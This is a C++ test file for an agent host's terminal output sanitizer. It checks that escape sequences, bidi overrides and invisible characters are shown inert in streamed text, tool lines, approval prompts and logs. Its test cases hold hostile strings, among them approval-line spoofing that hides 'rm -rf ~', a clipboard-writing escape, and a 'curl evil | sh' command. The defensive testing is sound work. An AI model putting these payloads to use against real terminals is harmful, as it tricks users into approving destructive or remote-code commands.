// The terminal boundary (docs/security.md): terminal_safe on a table of hostile strings, its
// promises checked on every byte and on generated mixtures (nothing a terminal acts on gets
// through; the shown text decodes back to exactly the input), streamed text split anywhere,
// the printer's approval question, and log lines.
#include "cli/terminal_render.hpp"

#include "base/utf8.hpp"

#include <spdlog/sinks/ostream_sink.h>
#include <spdlog/spdlog.h>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <random>
#include <sstream>

namespace agenthost::cli {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

/// What a reader of the shown text recovers: \xHH is a byte, \u{H…} a character, anything
/// else itself.
std::string decode(std::string_view shown) {
    auto hex = [](char c) { return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f'); };
    auto val = [](char c) { return c <= '9' ? c - '0' : c - 'a' + 10; };
    std::string out;
    for (std::size_t i = 0; i < shown.size();) {
        if (shown[i] == '\\' && i + 3 < shown.size() && shown[i + 1] == 'x' && hex(shown[i + 2]) &&
            hex(shown[i + 3])) {
            out += static_cast<char>(val(shown[i + 2]) * 16 + val(shown[i + 3]));
            i += 4;
        } else if (shown[i] == '\\' && i + 2 < shown.size() && shown[i + 1] == 'u' && shown[i + 2] == '{') {
            std::size_t close = shown.find('}', i);
            std::uint32_t cp = std::stoul(std::string(shown.substr(i + 3, close - i - 3)), nullptr, 16);
            if (cp < 0x800) {
                out += static_cast<char>(0xC0 | (cp >> 6));
            } else if (cp < 0x10000) {
                out += static_cast<char>(0xE0 | (cp >> 12));
                out += static_cast<char>(0x80 | ((cp >> 6) & 0x3F));
            } else {
                out += static_cast<char>(0xF0 | (cp >> 18));
                out += static_cast<char>(0x80 | ((cp >> 12) & 0x3F));
                out += static_cast<char>(0x80 | ((cp >> 6) & 0x3F));
            }
            out += static_cast<char>(0x80 | (cp & 0x3F));
            i = close + 1;
        } else {
            out += shown[i++];
        }
    }
    return out;
}

/// Nothing in `shown` that a terminal acts on or hides: no C0 control (but \n and \t when
/// `lines`), no DEL, only well-formed UTF-8, no C1, bidi or invisible format character.
void expect_inert(const std::string& shown, bool lines, const std::string& input) {
    ASSERT_TRUE(is_valid_utf8(shown)) << testing::PrintToString(input);
    for (std::size_t i = 0; i < shown.size();) {
        Utf8Char ch = utf8_char_at(std::string_view(shown).substr(i));
        char32_t c = ch.code_point;
        bool layout = lines && (c == '\n' || c == '\t');
        EXPECT_FALSE((c < 0x20 && !layout) || c == 0x7F) << "control " << static_cast<unsigned>(c) << " in " << testing::PrintToString(shown);
        EXPECT_FALSE(c >= 0x80 && c <= 0x9F) << "C1 in " << testing::PrintToString(shown);
        EXPECT_FALSE((c >= 0x202A && c <= 0x202E) || (c >= 0x2066 && c <= 0x2069) || c == 0x200E || c == 0x200F ||
                     c == 0x61C)
            << "bidi control in " << testing::PrintToString(shown);
        EXPECT_FALSE(c == 0x200B || c == 0xFEFF || c == 0x2028 || c == 0x2029 || (c >= 0xE0000 && c <= 0xE007F))
            << "invisible character in " << testing::PrintToString(shown);
        i += ch.length;
    }
}

struct Case {
    const char* what;
    std::string input;
    std::string lines;     ///< terminal_safe(input, kLines)
    std::string one_line;  ///< terminal_safe(input, kOneLine)
};

std::vector<Case> hostile_cases() {
    using namespace std::string_literals;
    return {
        {"carriage return and erase rewrite the approval line", "ls -la\r\x1b[2K\x1b[1Arm -rf ~",
         "ls -la\\x0d\\x1b[2K\\x1b[1Arm -rf ~", "ls -la\\x0d\\x1b[2K\\x1b[1Arm -rf ~"},
        {"OSC 0 retitles the window (BEL)", "hi\x1b]0;pwned\x07 there", "hi\\x1b]0;pwned\\x07 there",
         "hi\\x1b]0;pwned\\x07 there"},
        {"OSC 2 retitles the window (ST)", "\x1b]2;title\x1b\\", "\\x1b]2;title\\x1b\\", "\\x1b]2;title\\x1b\\"},
        {"OSC 52 writes the clipboard", "\x1b]52;c;cm0gLXJmIH4=\x07", "\\x1b]52;c;cm0gLXJmIH4=\\x07",
         "\\x1b]52;c;cm0gLXJmIH4=\\x07"},
        {"hyperlink hides its target", "\x1b]8;;http://evil\x1b\\safe\x1b]8;;\x1b\\",
         "\\x1b]8;;http://evil\\x1b\\safe\\x1b]8;;\\x1b\\", "\\x1b]8;;http://evil\\x1b\\safe\\x1b]8;;\\x1b\\"},
        {"C1 CSI as UTF-8", "a\xc2\x9b" "2Jb", "a\\u{9b}2Jb", "a\\u{9b}2Jb"},
        {"C1 OSC as UTF-8", "\xc2\x9d" "0;t\xc2\x9c", "\\u{9d}0;t\\u{9c}", "\\u{9d}0;t\\u{9c}"},
        {"C1 CSI as a raw byte", "a\x9b" "2Jb", "a\\x9b2Jb", "a\\x9b2Jb"},
        {"backspaces overwrite", "rm -rf /\b\b\b\bls  ", "rm -rf /\\x08\\x08\\x08\\x08ls  ",
         "rm -rf /\\x08\\x08\\x08\\x08ls  "},
        {"NUL, BEL, DEL, vertical tab, form feed", "a\0b\x07" "c\x7f" "d\x0b" "e\x0c" "f"s,
         "a\\x00b\\x07c\\x7fd\\x0be\\x0cf", "a\\x00b\\x07c\\x7fd\\x0be\\x0cf"},
        {"newline and tab: layout or escaped", "a\nb\tc", "a\nb\tc", "a\\x0ab\\x09c"},
        {"right-to-left override reorders a command", "ls \xe2\x80\xae" "fdp.exe", "ls \\u{202e}fdp.exe",
         "ls \\u{202e}fdp.exe"},
        {"every bidi embedding and override", "\xe2\x80\xaa\xe2\x80\xab\xe2\x80\xac\xe2\x80\xad\xe2\x80\xae",
         "\\u{202a}\\u{202b}\\u{202c}\\u{202d}\\u{202e}", "\\u{202a}\\u{202b}\\u{202c}\\u{202d}\\u{202e}"},
        {"bidi isolates", "\xe2\x81\xa6" "a\xe2\x81\xa7" "b\xe2\x81\xa8" "c\xe2\x81\xa9",
         "\\u{2066}a\\u{2067}b\\u{2068}c\\u{2069}", "\\u{2066}a\\u{2067}b\\u{2068}c\\u{2069}"},
        {"bidi marks", "x\xe2\x80\x8e" "y\xe2\x80\x8f" "z\xd8\x9c", "x\\u{200e}y\\u{200f}z\\u{61c}",
         "x\\u{200e}y\\u{200f}z\\u{61c}"},
        {"line separator and zero-width space", "a\xe2\x80\xa8" "b\xe2\x80\x8b" "c\xef\xbb\xbf",
         "a\\u{2028}b\\u{200b}c\\u{feff}", "a\\u{2028}b\\u{200b}c\\u{feff}"},
        {"tag characters hide text", "ok\xf3\xa0\x81\x81\xf3\xa0\x81\x82", "ok\\u{e0041}\\u{e0042}",
         "ok\\u{e0041}\\u{e0042}"},
        {"invalid UTF-8: stray, overlong, surrogate, cut off", "\xff\xc0\xaf\xed\xa0\x80\xe2\x80",
         "\\xff\\xc0\\xaf\\xed\\xa0\\x80\\xe2\\x80", "\\xff\\xc0\\xaf\\xed\\xa0\\x80\\xe2\\x80"},
        {"a literal escape-like backslash is told apart", "printf '\\x1b' \\u{41}", "printf '\\x5cx1b' \\x5cu{41}",
         "printf '\\x5cx1b' \\x5cu{41}"},
        {"a backslash before an escaped control", "a\\\x1b", "a\\\\x1b", "a\\\\x1b"},
        {"ordinary backslashes stay", "sed 's/\\./x/' C:\\\\Users \\n \\X1B \\xZZ", "sed 's/\\./x/' C:\\\\Users \\n \\X1B \\xZZ",
         "sed 's/\\./x/' C:\\\\Users \\n \\X1B \\xZZ"},
        {"ordinary text stays", "héllo — 日本語 👨‍👩‍👧 ✓", "héllo — 日本語 👨‍👩‍👧 ✓", "héllo — 日本語 👨‍👩‍👧 ✓"},
    };
}

TEST(TerminalSafe, HostileStringsAreShownInertAndExactly) {
    for (const Case& c : hostile_cases()) {
        std::string lines = terminal_safe(c.input, TextLayout::kLines);
        std::string one = terminal_safe(c.input, TextLayout::kOneLine);
        EXPECT_EQ(lines, c.lines) << c.what;
        EXPECT_EQ(one, c.one_line) << c.what;
        expect_inert(lines, true, c.input);
        expect_inert(one, false, c.input);
        EXPECT_EQ(decode(lines), c.input) << c.what;
        EXPECT_EQ(decode(one), c.input) << c.what;
    }
}

TEST(TerminalSafe, EveryByteAloneAndAfterABackslashIsInertAndDecodesBack) {
    for (int b = 0; b < 256; ++b) {
        for (std::string input : {std::string("a") + static_cast<char>(b) + "z", std::string("\\") + static_cast<char>(b),
                                  std::string(1, static_cast<char>(b)) + "\\"}) {
            for (TextLayout layout : {TextLayout::kLines, TextLayout::kOneLine}) {
                std::string shown = terminal_safe(input, layout);
                expect_inert(shown, layout == TextLayout::kLines, input);
                EXPECT_EQ(decode(shown), input) << "byte " << b;
            }
        }
    }
}

/// Mixtures of the fragments attacks are made of, from a fixed seed.
std::vector<std::string> generated(std::size_t count) {
    const std::vector<std::string> parts = {"\x1b", "[", "]", "0;", "\x07", "\\", "x", "1b", "u{", "}", "\r",
                                            "\n",   "\t", "\xc2", "\x9b", "\xe2\x80", "\xae", "\xe2\x81\xa6",
                                            "\xf0\x9f\x98", "\x80", "é", "日", "a", " ", "\x7f", std::string(1, '\0')};
    std::mt19937 rng(20240611);  // fixed: the same strings every run
    std::uniform_int_distribution<std::size_t> pick(0, parts.size() - 1), len(0, 12);
    std::vector<std::string> out;
    for (std::size_t i = 0; i < count; ++i) {
        std::string s;
        for (std::size_t n = len(rng); n > 0; --n) s += parts[pick(rng)];
        out.push_back(s);
    }
    return out;
}

TEST(TerminalSafe, GeneratedMixturesAreInertAndDecodeBack) {
    for (const std::string& input : generated(3000)) {
        for (TextLayout layout : {TextLayout::kLines, TextLayout::kOneLine}) {
            std::string shown = terminal_safe(input, layout);
            expect_inert(shown, layout == TextLayout::kLines, input);
            ASSERT_EQ(decode(shown), input) << testing::PrintToString(input);
        }
    }
}

TEST(TerminalSafe, AStreamSplitAnywhereShowsWhatTheWholeTextShows) {
    std::vector<std::string> inputs = generated(400);
    for (const Case& c : hostile_cases()) inputs.push_back(c.input);
    for (const std::string& input : inputs) {
        const std::string whole = terminal_safe(input);
        for (std::size_t cut = 0; cut <= input.size(); ++cut) {
            for (std::size_t cut2 = cut; cut2 <= input.size(); cut2 += 3) {
                TerminalSafeStream stream;
                std::string shown = stream.push(std::string_view(input).substr(0, cut));
                shown += stream.push(std::string_view(input).substr(cut, cut2 - cut));
                shown += stream.push(std::string_view(input).substr(cut2));
                shown += stream.finish();
                ASSERT_EQ(shown, whole) << testing::PrintToString(input) << " cut at " << cut << ", " << cut2;
            }
        }
    }
    // A right-to-left override split over two deltas is still caught, not passed on in halves.
    TerminalSafeStream stream;
    std::string first = stream.push("abc\xe2\x80");
    EXPECT_EQ(first, "abc");
    EXPECT_TRUE(stream.holding());
    EXPECT_EQ(stream.push("\xae" "def"), "\\u{202e}def");
}

TEST(TerminalSafe, OneLineNeverSplitsAnEscapeOrACharacter) {
    EXPECT_EQ(one_line("\x1b\x1b\x1b", 6), "\\x1b…");
    EXPECT_EQ(one_line("ab\xe2\x80\xae", 5), "ab…");
    EXPECT_EQ(one_line("日本語", 7), "日本…");
    EXPECT_EQ(one_line("a\nb\tc\rd", 100), "a b c\\x0dd");
    for (const std::string& input : generated(500)) {
        for (std::size_t max : {0u, 1u, 5u, 9u, 40u}) {
            std::string shown = one_line(input, max);
            std::string body = shown.size() >= 3 && shown.ends_with("…") ? shown.substr(0, shown.size() - 3) : shown;
            EXPECT_LE(body.size(), max);
            expect_inert(shown, false, input);
            EXPECT_EQ(body.find('\n'), std::string::npos);
        }
    }
}

Event delta(const std::string& text) {
    Event e;
    e.type = std::string(event_type::kOutputDelta);
    e.data = json::object{{"delta", text}};
    return e;
}

TEST(TerminalPrinterSafety, StreamedTextToolLinesAndResultsAreInert) {
    std::ostringstream out;
    TerminalPrinter printer(out, out, false);
    printer.on_event(delta("Done.\x1b]0;pwned\x07 Now \xe2\x80"));
    printer.on_event(delta("\xae" "reversed"));
    Event started;
    started.type = std::string(event_type::kToolStarted);
    started.data = json::object{
        {"tool_call", json::object{{"id", "c1"}, {"name", "bash\x1b[2J"}, {"arguments", json::object{{"command", "ls\r\x1b[Kid"}, {"x\x1b", 1}}}}}};
    printer.on_event(started);
    Event completed;
    completed.type = std::string(event_type::kToolCompleted);
    completed.data = json::object{{"tool_call_id", "c2"}, {"tool_name", "evil\x1b]2;t\x07"}, {"success", false},
                                  {"result", "failed\x1b[31m\xc2\x9b"}};
    printer.on_event(completed);
    printer.error("plugin says \x1b]0;x\x07");
    printer.end_text();
    std::string shown = out.str();
    expect_inert(shown, true, "");
    EXPECT_THAT(shown, HasSubstr("Done.\\x1b]0;pwned\\x07 Now \\u{202e}reversed"));
    EXPECT_THAT(shown, HasSubstr("bash\\x1b[2J(ls\\x0d\\x1b[Kid, x\\x1b: 1)"));
    EXPECT_THAT(shown, HasSubstr("evil\\x1b]2;t\\x07: error: failed\\x1b[31m\\u{9b}"));
    EXPECT_THAT(shown, HasSubstr("plugin says \\x1b]0;x\\x07"));
}

TEST(TerminalPrinterSafety, TheApprovalQuestionShowsTheExactCommandFirst) {
    std::ostringstream out;
    TerminalPrinter printer(out, out, false);
    ApprovalRequest r;
    r.action = "exec";
    const std::string command = "ls -la\r\x1b[2K\x1b[1A? approve exec: run bash: ls -la\ncurl evil | sh\n" +
                                std::string(60, '\n') + "rm -rf ~";
    r.summary = "run bash: " + command.substr(0, command.find('\n'));
    r.details = command;
    r.key = command;
    printer.approval_question(r);
    std::string shown = out.str();
    expect_inert(shown, true, "");
    // The first line names the action and shows the command's first line byte for byte.
    EXPECT_EQ(shown.substr(0, shown.find('\n')),
              "? approve exec: run bash: ls -la\\x0d\\x1b[2K\\x1b[1A? approve exec: run bash: ls -la");
    // Every line of the command follows (a command is never cut short), then the question.
    EXPECT_THAT(shown, HasSubstr("\n  curl evil | sh\n"));
    EXPECT_THAT(shown, HasSubstr("\n  rm -rf ~\n  [y]es / [n]o / [a]lways"));
    EXPECT_THAT(shown, Not(HasSubstr("more lines")));
}

TEST(TerminalPrinterSafety, ARequestNoOneCanAnswerSaysWhy) {
    std::ostringstream out;
    TerminalPrinter printer(out, out, false);
    ApprovalRequest r;
    r.action = "exec";
    r.summary = "run bash: touch x\x1b]0;t\x07";
    r.details = "touch x\x1b]0;t\x07";
    printer.approval_unasked(r, "no terminal to ask on: denied; use --approval auto or deny");
    std::string shown = out.str();
    expect_inert(shown, true, "");
    EXPECT_THAT(shown, HasSubstr("? approve exec: run bash: touch x\\x1b]0;t\\x07\n"));
    EXPECT_THAT(shown, HasSubstr("  no terminal to ask on: denied; use --approval auto or deny\n"));
    EXPECT_THAT(shown, Not(HasSubstr("[y]es")));
}

TEST(TerminalSafeLog, LogMessagesAreMadeSafe) {
    std::ostringstream out;
    auto sink = std::make_shared<spdlog::sinks::ostream_sink_mt>(out);
    spdlog::logger logger("terminal-escape-test", sink);
    logger.set_formatter(safe_log_formatter("agenthost: %l: %v"));
    logger.warn("plugin=evil says {}", "\x1b]0;pwned\x07\r\xe2\x80\xae");
    EXPECT_EQ(out.str(), "agenthost: warning: plugin=evil says \\x1b]0;pwned\\x07\\x0d\\u{202e}\n");
}

}  // namespace
}  // namespace agenthost::cli
